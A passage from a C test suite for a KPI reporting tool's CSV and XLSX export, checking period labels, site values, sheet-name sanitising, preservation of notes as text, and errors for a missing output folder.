    if (g_str_has_prefix (csv_field (appendix, r, 2)->text, "Fixed exclusion rates for Rawlett & TEC"))
      {
        assert_close (cell_number (csv_field (appendix, r, 3), PM_UNIT_COUNT), 139);
        n_sites++;
      }
  g_assert_cmpuint (n_sites, ==, 1);

  sites = load_sheet (out_dir, "appendix", "Sites");
  g_assert_cmpstr (csv_field (sites, 0, 3)->text, ==, "Site");
  for (guint r = 1; r < sites->records->len; r++)
    if (g_str_has_prefix (csv_field (sites, r, 2)->text, "Fixed exclusion rates for Rawlett & TEC"))
      {
        static const char * const site_names[] = { "Rawlett", "TEC", "Rawlett", "TEC" };
        static const double site_values[] = { 29, 110, 12, 30 };

        g_assert_cmpuint (n_sites, <=, 4);
        g_assert_cmpstr (csv_field (sites, r, 3)->text, ==, site_names[n_sites - 1]);
        assert_close (cell_number (csv_field (sites, r, 4), PM_UNIT_COUNT), site_values[n_sites - 1]);
        /* The baseline's sites, then the quarter's value's. */
        g_assert_cmpstr (csv_field (sites, r, 5)->text, ==, n_sites <= 2 ? "Baseline" : "Q3 2016/17");
        n_sites++;
      }
  g_assert_cmpuint (n_sites, ==, 5);
}

/* The workbook keeps such notes (and the title) as text: LibreOffice
 * gives them back word for word, where a formula would give its result. */
static void
test_xlsx_formulas (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autoptr(GPtrArray) kpis = NULL;
  g_autofree char *path = g_build_filename (tmp_dir, "formulas.xlsx", NULL);
  g_autofree char *out_dir = g_build_filename (tmp_dir, "formulas-csv", NULL);
  g_autofree char *soffice = NULL;
  const char *districts[] = { "Cannock Chase", "East Staffordshire" };
  guint n_seen = 0;

  add_formula_notes (programme);
  kpis = all_kpis (programme);
  g_assert_true (pm_table_export_xlsx (programme, period, path, &error));
  g_assert_no_error (error);

  soffice = find_libreoffice ();
  if (soffice == NULL)
    {
      g_test_skip ("LibreOffice (soffice) is not installed: the workbook was not opened");
      return;
    }
  convert_to_csv (soffice, path, out_dir);

  for (guint d = 0; d < G_N_ELEMENTS (districts); d++)
    {
      g_autoptr(Csv) sheet = load_sheet (out_dir, "formulas", districts[d]);
      guint r = 0;

      for (guint i = 0; i < kpis->len; i++)
        {
          PmKpi *kpi = g_ptr_array_index (kpis, i);
          const char *note = note_of (kpi);

          if (!g_str_equal (district_of (kpi), districts[d]))
            continue;
          r++;

          g_assert_cmpstr (csv_field (sheet, r, 1)->text, ==, pm_kpi_get_title (kpi));
          g_assert_true (csv_field (sheet, r, 1)->quoted);
          if (note[0] == '\0' || strchr (note, '\t') != NULL)
            continue;
          g_assert_cmpstr (csv_field (sheet, r, 13)->text, ==, note);
          g_assert_true (csv_field (sheet, r, 13)->quoted);
          n_seen++;
        }
    }
  /* Every note but the one with a tab, and the title's note. */
  g_assert_cmpuint (n_seen, >=, G_N_ELEMENTS (formula_notes));
}

/* A yearly KPI's outturn and a monthly KPI's figure in a quarter's
 * export: both files name the value's own period, never the quarter's. */
static void
test_frequencies (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autoptr(PmPeriod) fy2015 = pm_period_new_year (2015);
  g_autoptr(PmPeriod) november = pm_period_new_month (2016, 8);
  g_autofree char *csv_path = g_build_filename (tmp_dir, "frequencies.csv", NULL);
  g_autofree char *path = g_build_filename (tmp_dir, "frequencies.xlsx", NULL);
  g_autofree char *out_dir = g_build_filename (tmp_dir, "frequencies-csv", NULL);
  g_autofree char *soffice = NULL;
  g_autoptr(Csv) csv = NULL;
  g_autoptr(Csv) appendix = NULL;
  g_autoptr(Csv) stafford = NULL;
  PmKpi *yearly = pm_test_find_kpi (programme, "Stafford", "Reduce the number of fixed term exclusions");
  PmKpi *monthly = pm_test_find_kpi (programme, "Stafford", "Improve the level of pupil premium attendance");
  PmKpi *quarterly = pm_test_find_kpi (programme, "Lichfield", "Increase Early Years reach (by Wards)");
  const struct {
    PmKpi      *kpi;
    const char *code;
    const char *label;
    double      value;
  } expected[] = {
    { yearly, "FY2015", "2015/16", 41 },
    { monthly, "FY2016-M08", "November 2016", 93.5 },
    { quarterly, "FY2016-Q3", "Q3 2016/17", 44.8 },
  };
  guint n_seen = 0;

  pm_kpi_set_frequency (yearly, PM_FREQUENCY_YEARLY);
  pm_kpi_set_frequency (monthly, PM_FREQUENCY_MONTHLY);
  pm_test_set_value (NULL, yearly, fy2015, 41, NULL);
  pm_test_set_value (NULL, monthly, november, 93.5, NULL);
  pm_test_set_value (NULL, quarterly, period, 44.8, NULL);

  g_assert_true (pm_table_export_csv (programme, period, csv_path, &error));
  g_assert_no_error (error);
  csv = csv_load (csv_path);
  for (guint r = 1; r < csv->records->len; r++)
    for (guint e = 0; e < G_N_ELEMENTS (expected); e++)
      if (g_str_equal (csv_field (csv, r, 2)->text, pm_kpi_get_title (expected[e].kpi)) &&
          g_str_equal (csv_field (csv, r, 0)->text, district_of (expected[e].kpi)))
        {
          g_assert_cmpstr (csv_field (csv, r, 9)->text, ==, expected[e].code);
          assert_close (parse_number (csv_field (csv, r, 10)->text), expected[e].value);
          n_seen++;
        }
  g_assert_cmpuint (n_seen, ==, G_N_ELEMENTS (expected));

  g_assert_true (pm_table_export_xlsx (programme, period, path, &error));
  g_assert_no_error (error);

  soffice = find_libreoffice ();
  if (soffice == NULL)
    {
      g_test_skip ("LibreOffice (soffice) is not installed: the workbook was not opened");
      return;
    }
  convert_to_csv (soffice, path, out_dir);

  /* No column says the quarter over a value that is not the quarter's. */
  appendix = load_sheet (out_dir, "frequencies", "Appendix");
  g_assert_cmpstr (csv_field (appendix, 0, 5)->text, ==, "Period");
  g_assert_cmpstr (csv_field (appendix, 0, 6)->text, ==, "Value");
  stafford = load_sheet (out_dir, "frequencies", "Stafford");
  g_assert_cmpstr (csv_field (stafford, 0, 9)->text, ==, "Period");
  g_assert_cmpstr (csv_field (stafford, 0, 10)->text, ==, "Value");

  n_seen = 0;
  for (guint r = 1; r < appendix->records->len; r++)
    for (guint e = 0; e < G_N_ELEMENTS (expected); e++)
      if (g_str_equal (csv_field (appendix, r, 2)->text, pm_kpi_get_title (expected[e].kpi)) &&
          g_str_equal (csv_field (appendix, r, 0)->text, district_of (expected[e].kpi)))
        {
          PmUnit unit = pm_kpi_get_unit (expected[e].kpi);

          g_assert_cmpstr (csv_field (appendix, r, 5)->text, ==, expected[e].label);
          assert_close (cell_number (csv_field (appendix, r, 6), unit), cell_expected (unit, expected[e].value));
          n_seen++;
        }
  g_assert_cmpuint (n_seen, ==, G_N_ELEMENTS (expected));

  n_seen = 0;
  for (guint r = 1; r < stafford->records->len; r++)
    for (guint e = 0; e < 2; e++)
      if (g_str_equal (csv_field (stafford, r, 1)->text, pm_kpi_get_title (expected[e].kpi)))
        {
          PmUnit unit = pm_kpi_get_unit (expected[e].kpi);

          g_assert_cmpstr (csv_field (stafford, r, 9)->text, ==, expected[e].label);
          assert_close (cell_number (csv_field (stafford, r, 10), unit), cell_expected (unit, expected[e].value));
          n_seen++;
        }
  g_assert_cmpuint (n_seen, ==, 2);
}

/* Sheet names: no []:*?/\, 31 characters at most, unique whatever the case
 * (the appendix's own name included). */
static void
test_xlsx_sheet_names (void)
{
  static const struct {
    const char *district;
    const char *sheet;
  } names[] = {
    { "Cannock/Chase: [North]*?", "CannockChase North" },
    { "appendix", "appendix (2)" },
    { "A district whose name runs on for forty characters", "A district whose name runs on f" },
    { "A district whose name runs on for ever", "A district whose name runs (2)" },
    { "'Quoted'", "Quoted" },
  };
  g_autoptr(GError) error = NULL;
  g_autoptr(PmProgramme) programme = pm_programme_new ("Sheet names");
  g_autoptr(PmPeriod) period = q3 ();
  g_autofree char *path = g_build_filename (tmp_dir, "names.xlsx", NULL);
  g_autofree char *out_dir = g_build_filename (tmp_dir, "names-csv", NULL);
  g_autofree char *soffice = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autoptr(PmDistrict) district = pm_district_new (names[i].district);
      g_autoptr(PmPilot) pilot = pm_pilot_new ("Pilot");
      g_autoptr(PmKpi) kpi = pm_kpi_new ("Families reached", PM_UNIT_COUNT, PM_DIRECTION_INCREASE);

      g_assert_cmpuint (g_utf8_strlen (names[i].sheet, -1), <=, 31);
      set_entry (kpi, 10 + i, NULL);
      pm_pilot_add_kpi (pilot, kpi);
      pm_district_add_pilot (district, pilot);
      g_assert_true (pm_programme_add_district (programme, district, &error));
      g_assert_no_error (error);
    }

  g_assert_true (pm_table_export_xlsx (programme, period, path, &error));
  g_assert_no_error (error);
  assert_workbook_file (path);

  soffice = find_libreoffice ();
  if (soffice == NULL)
    {
      g_test_skip ("LibreOffice (soffice) is not installed: the workbook was not opened");
      return;
    }

  convert_to_csv (soffice, path, out_dir);
  g_assert_cmpuint (count_entries (out_dir), ==, 1 + G_N_ELEMENTS (names));

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autoptr(Csv) sheet = load_sheet (out_dir, "names", names[i].sheet);

      g_assert_cmpuint (sheet->records->len, ==, 2);
      g_assert_cmpfloat (cell_number (csv_field (sheet, 1, 10), PM_UNIT_COUNT), ==, 10 + i);
    }
}

/* ------------------------------------------------------------------ */
/* Failure */

static void
test_missing_folder (void)
{
  g_autoptr(PmProgramme) programme = pm_test_sample_file_load ();
  g_autoptr(PmPeriod) period = q3 ();
  g_autofree char *nowhere = g_build_filename (tmp_dir, "no-such-folder", NULL);
  g_autofree char *csv = g_build_filename (nowhere, "kpis.csv", NULL);
  g_autofree char *xlsx = g_build_filename (nowhere, "appendix.xlsx", NULL);
  guint before = count_entries (tmp_dir);
  g_autoptr(GError) error = NULL;

  g_assert_false (pm_table_export_csv (programme, period, csv, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "no-such-folder"));
  g_clear_error (&error);

  g_assert_false (pm_table_export_xlsx (programme, period, xlsx, &error));
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  g_assert_nonnull (strstr (error->message, "no-such-folder"));

  g_assert_false (g_file_test (nowhere, G_FILE_TEST_EXISTS));
  g_assert_cmpuint (count_entries (tmp_dir), ==, before);
}

int
main (int   argc,
      char *argv[])
{
  int status;

  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  tmp_dir = pm_test_dir_new ("pm-export");

  g_test_add_func ("/export/csv/sample", test_csv_sample);
  g_test_add_func ("/export/csv/replace", test_csv_replace);
  g_test_add_func ("/export/csv/reimport", test_csv_reimport);
  g_test_add_func ("/export/csv/formulas", test_csv_formulas);
  g_test_add_func ("/export/xlsx/sample", test_xlsx_sample);
  g_test_add_func ("/export/xlsx/sheet-names", test_xlsx_sheet_names);
  g_test_add_func ("/export/xlsx/formulas", test_xlsx_formulas);
  g_test_add_func ("/export/frequencies", test_frequencies);
  g_test_add_func ("/export/failure/missing-folder", test_missing_folder);

  status = g_test_run ();

  pm_test_clear_dir (&tmp_dir);

  return status;
}
